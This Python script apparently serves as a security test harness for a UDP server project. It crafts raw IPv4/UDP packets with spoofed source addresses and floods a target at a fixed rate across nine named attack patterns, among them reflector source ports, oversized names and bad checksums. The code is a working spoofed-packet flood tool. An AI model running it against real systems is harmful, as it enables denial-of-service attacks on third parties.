"""The attacks of docs/security.md that an answer in the driver has to withstand, with spoofed sources.

usage: attacks.py ATTACK ADDRESS PORT SECONDS
"""

import itertools
import random
import socket
import struct
import sys
import time

BYSTANDER = "10.99.0.2"
RATE = 20_000


def datagram(source, address, port, source_port=None, name=b"abcdefgh", damage=0):
    """An IPv4 packet. The kernel fills in the header's checksum."""
    source_port = source_port or random.randrange(20_000, 60_000)
    source, address = map(socket.inet_aton, (source, address))
    length = 8 + len(name)
    pseudo = source + address + struct.pack("!HHHHHH", 17, length, source_port, port, length, 0)
    words = struct.unpack(f"!{(len(pseudo) + len(name) + 1) // 2}H", pseudo + name + b"\0" * (len(name) % 2))
    total = sum(words)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    checksum = (~total & 0xFFFF) ^ damage
    udp = struct.pack("!HHHH", source_port, port, length, checksum or 0xFFFF)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0x4000, 64, 17, 0, source, address)
    return ip + udp + name


def somewhere():
    """An address of a random network, none of which is the bystander's or special."""
    return f"{random.randrange(20, 100)}.{random.randrange(256)}.{random.randrange(256)}.{random.randrange(1, 255)}"


def neighbour():
    return f"10.77.0.{random.randrange(3, 255)}"


ATTACKS = {
    "one network over the limit": lambda to: datagram(f"198.51.100.{random.randrange(1, 255)}", *to),
    "a new network for each datagram": lambda to: datagram(somewhere(), *to),
    "absent neighbours": lambda to: datagram(neighbour(), *to, name=b"x" * 1000),
    "reflectors' ports": lambda to: datagram(somewhere(), *to, source_port=random.choice((19, 53, 1900, 11211))),
    "the server's own port": lambda to: datagram(somewhere(), *to, source_port=to[1]),
    "names over the limit": lambda to: datagram(somewhere(), *to, name=b"x" * 1400),
    "greeted twice": lambda to: datagram(somewhere(), *to, name=b"Hello, Hello, x!!"),
    "wrong checksums": lambda to: datagram(somewhere(), *to, damage=0x5555),
    "impossible sources": lambda to: datagram(f"224.0.0.{random.randrange(1, 255)}", *to),
}


def main():
    attack, address, port, seconds = sys.argv[1:]
    to = (address, int(port))
    packets = [ATTACKS[attack](to) for _ in range(int(min(200_000, RATE * float(seconds))))]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        print("begun", flush=True)
        begin = time.monotonic()
        sent = 0
        for packet in itertools.cycle(packets):
            if sent % 20 == 0:
                elapsed = time.monotonic() - begin
                if elapsed > float(seconds):
                    break
                time.sleep(max(0, sent / RATE - elapsed))
            raw.sendto(packet, to)
            sent += 1
        print(sent / elapsed)


if __name__ == "__main__":
    main()
